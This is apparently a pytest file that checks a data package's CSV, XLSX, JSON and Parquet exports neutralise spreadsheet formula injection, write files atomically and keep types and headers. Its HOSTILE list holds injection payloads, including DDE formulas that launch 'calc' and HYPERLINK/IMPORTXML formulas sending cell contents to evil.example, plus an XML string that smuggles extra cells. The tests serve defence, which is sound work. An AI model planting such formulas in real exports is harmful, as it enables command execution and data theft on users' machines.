"""Exported files: safe in a spreadsheet, written whole or not at all."""

from __future__ import annotations

import csv
import json
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from brandfit.data import schema, tabular
from brandfit.errors import UsageError

openpyxl = pytest.importorskip(
    "openpyxl", reason="openpyxl reads back what was written; it comes with the extra dev"
)

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\ufeff=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|'/C notepad'!_xlbgnm.A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"look")',
    '=IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "https://evil.example",
    "fine",
]
RAW = "<r></r></is></c><c r='A9'><f>1+1</f><v>2</v></c><c r='B9' t='inlineStr'><is><r></r>"
"""What XlsxWriter would write into the sheet as it stands."""


def cells(file: Path) -> list[list]:
    """(rows of cells) of the only sheet; control characters read back."""
    book = openpyxl.load_workbook(file)
    assert len(book.worksheets) == 1
    return [list(row) for row in book.worksheets[0].iter_rows()]


def text_of(cell) -> str:
    return "" if cell.value is None else openpyxl.utils.escape.unescape(cell.value)


def written(table: pa.Table, ending: str) -> Path:
    file = Path(tempfile.mkdtemp()) / f"a.{ending}"
    assert tabular.write(table, file) == table.num_rows
    return file


def read_csv(file: Path, delimiter: str = ",") -> list[list[str]]:
    with file.open(newline="", encoding="utf-8") as opened:
        return list(csv.reader(opened, delimiter=delimiter))


def could_run(text: str) -> bool:
    """Whether a spreadsheet may take it for a formula: judged by its first character that is seen."""
    return text[:1] in ("\t", "\r") or text.lstrip(" \t\r\n\ufeff\u200b")[:1] in tuple("=+-@＝＋－＠")


def test_no_cell_begins_like_a_formula(tmp_path):
    bad = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "fine", None, ""]
    table = pa.table({"caption": bad, "score": [-1.5] * len(bad), "tags": [["=a", "b"]] * len(bad)})
    assert tabular.write(table, tmp_path / "a.csv") == len(bad)
    rows = read_csv(tmp_path / "a.csv")[1:]
    assert not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows if row[0])
    assert [row[1] for row in rows] == ["-1.5"] * len(bad)
    assert {row[2] for row in rows} == {"'=a|b"}


@pytest.mark.parametrize("bad", HOSTILE)
def test_a_hostile_text_is_a_text_in_every_spreadsheet(bad):
    table = pa.table({bad: [bad, None], "b": ["x", bad]})
    rows = read_csv(written(table, "csv"))
    assert not any(could_run(cell) for row in rows for cell in row)
    assert [rows[0][0].lstrip("'"), rows[1][0].lstrip("'")] == [bad, bad] or bad[0] in "\t\r"
    found = cells(written(table, "xlsx"))
    assert [[cell.data_type for cell in row if cell.value is not None] for row in found] == [
        ["s", "s"],
        ["s", "s"],
        ["s"],
    ]
    assert [text_of(found[0][0]), text_of(found[1][0]), text_of(found[2][1])] == [bad, bad, bad]
    assert not any(cell.hyperlink for row in found for cell in row)


@pytest.mark.parametrize("other", ["a;=1+1", 'a;"=1+1"', "a\n=1+1", "a\t=1+1", "a; \uff1d1+1", ";;=1"])
def test_a_csv_that_is_read_with_another_separator_runs_nothing_either(other):
    file = written(pa.table({"caption": [other], "b": ["x"]}), "csv")
    for delimiter in (",", ";", "\t"):
        assert not any(could_run(cell) for row in read_csv(file, delimiter) for cell in row), delimiter


texts = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
starts = st.sampled_from(
    [
        "",
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        " =",
        "\uff1d",
        "\uff20",
        ";=",
        "<r>",
        "_x003D_",
        "\x00",
        "\ufffe",
    ]
)


@given(st.lists(st.builds(str.__add__, starts, texts), min_size=1, max_size=5))
@example([RAW])
@example(["<r>" + "<" * 40_000 + "</r>"])
@example(["\ufffe\uffff\x0b\x1b_x0041_"])
def test_whatever_is_written_is_read_back_as_text(values):
    table = pa.table({"n": range(len(values)), "a": pa.array(values, pa.string())})
    found = cells(written(table, "xlsx"))
    assert [n.value for n, _ in found] == ["n", *range(len(values))]
    for (_, cell), value in zip(found[1:], values, strict=True):
        assert cell.data_type == ("s" if value else "n")
        if len(value) < 30_000:
            assert text_of(cell).replace("\r\n", "\n") == value.replace("\r\n", "\n")
    assert not any(could_run(cell) for row in read_csv(written(table, "csv")) for cell in row)
    assert json.loads(written(table, "json").read_text()) == table.to_pylist()


def test_mark_up_that_would_add_cells_is_a_text():
    file = written(pa.table({"a": [RAW]}), "xlsx")
    ((header,), (cell,)) = cells(file)
    assert (header.value, cell.value, cell.data_type) == ("a", RAW, "s")


def test_numbers_are_numbers_times_are_dates_and_the_header_stays():
    when = int(datetime(2018, 12, 1, 13, 30, tzinfo=UTC).timestamp())
    time = pa.field("time", pa.int64(), metadata={"unit": "s since 1970 UTC"})
    columns = [
        pa.array([1.5, float("nan"), float("inf")]),
        pa.array([3, -7, 10**17]),
        pa.array([True, None, False]),
        pa.array([when, None, 2**40]),
        pa.array([["a", "b"], [], None]),
    ]
    table = pa.table(
        columns,
        schema=pa.schema(
            [
                ("score", pa.float64()),
                ("n", pa.int64()),
                ("ad", pa.bool_()),
                time,
                ("tags", pa.list_(pa.string())),
            ]
        ),
    )
    file = written(table, "xlsx")
    found = [[cell.value for cell in row] for row in cells(file)]
    assert found[0] == ["score", "n", "ad", "time", "tags"]
    assert found[1] == [1.5, 3, True, datetime(2018, 12, 1, 13, 30), "a|b"]
    assert found[2] == [None, -7, None, None, None]
    assert found[3] == ["inf", str(10**17), False, 2**40, None]
    sheet = openpyxl.load_workbook(file).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["D2"].is_date
    assert sheet.column_dimensions["D"].width >= 16


def test_the_times_of_the_schema_are_dates():
    posts = schema.to_table("posts", [schema.Post(id="p", account="a", time=0, caption="=1", likes=5)])
    header, row = cells(written(posts, "xlsx"))
    told = {h.value: c for h, c in zip(header, row, strict=True)}
    assert told["time"].value == datetime(1970, 1, 1)
    assert (told["likes"].value, told["likes"].data_type) == (5, "n")
    assert told["caption"].quotePrefix


def test_a_text_that_no_cell_holds_is_cut_and_says_so():
    long = "😀" * 20_000  # two UTF-16 units each
    ((_,), (cell,)) = cells(written(pa.table({"a": [long]}), "xlsx"))
    assert len(cell.value.encode("utf-16-le")) // 2 <= tabular.CHARACTERS
    assert cell.value.startswith("😀" * 16_000)
    left = int(cell.value.rpartition("[")[2].split()[0].replace(",", ""))
    assert cell.value.count("😀") + left == 20_000
    assert read_csv(written(pa.table({"a": [long]}), "csv"))[1] == [long]


@pytest.mark.parametrize(
    ("table", "words"),
    [
        (pa.table({"a": pa.nulls(tabular.ROWS, pa.int8())}), "1,048,577 rows"),
        (pa.table({f"c{n}": [1] for n in range(tabular.COLUMNS + 1)}), "16,385 columns"),
    ],
)
def test_what_a_sheet_cannot_hold_is_refused_in_words(tmp_path, table, words):
    with pytest.raises(UsageError, match=words) as error:
        tabular.write(table, tmp_path / "a.xlsx")
    assert ".csv" in error.value.hint
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("ending", [".csv", ".xlsx", ".json", ".jsonl", ".parquet"])
def test_a_failure_in_the_middle_leaves_the_old_file(tmp_path, monkeypatch, ending):
    file = tmp_path / f"a{ending}"
    tabular.write(pa.table({"a": [1]}), file)
    before = file.read_bytes()

    def broken(_table, path):
        path.write_bytes(b"half")
        raise OSError("disk full")

    monkeypatch.setitem(tabular.WRITERS, ending, broken)
    with pytest.raises(OSError, match="disk full"):
        tabular.write(pa.table({"a": [2]}), file)
    assert file.read_bytes() == before
    assert list(tmp_path.iterdir()) == [file]


def test_rows_that_differ_become_columns():
    rows = [
        {"id": "a", "ranks": {"words": 1}, "concepts": [("boots", 0.5)]},
        {"id": "b", "ranks": {"meaning": 2}, "tags": []},
    ]
    table = tabular.from_rows(rows)
    assert table.column_names == ["id", "ranks.words", "concepts", "ranks.meaning", "tags"]
    assert table.to_pylist()[0] == {
        "id": "a",
        "ranks.words": 1,
        "concepts": ["boots 0.5"],
        "ranks.meaning": None,
        "tags": None,
    }
    assert read_csv(written(table, "csv"))[2] == ["b", "", "", "2", ""]


@pytest.mark.parametrize("ending", ["csv", "xlsx", "json", "jsonl", "parquet"])
def test_no_rows_are_a_file_too(ending):
    assert written(tabular.from_rows([]), ending).is_file()
    file = written(pa.table({"a": pa.array([], pa.string())}), ending)
    if ending == "json":
        assert json.loads(file.read_text()) == []
    if ending == "xlsx":
        assert [[c.value for c in row] for row in cells(file)] == [["a"]]


def test_an_ending_that_is_not_known_is_refused(tmp_path):
    with pytest.raises(UsageError, match=r"\.xls'") as error:
        tabular.write(pa.table({"a": [1]}), tmp_path / "a.xls")
    assert ".csv" in error.value.hint
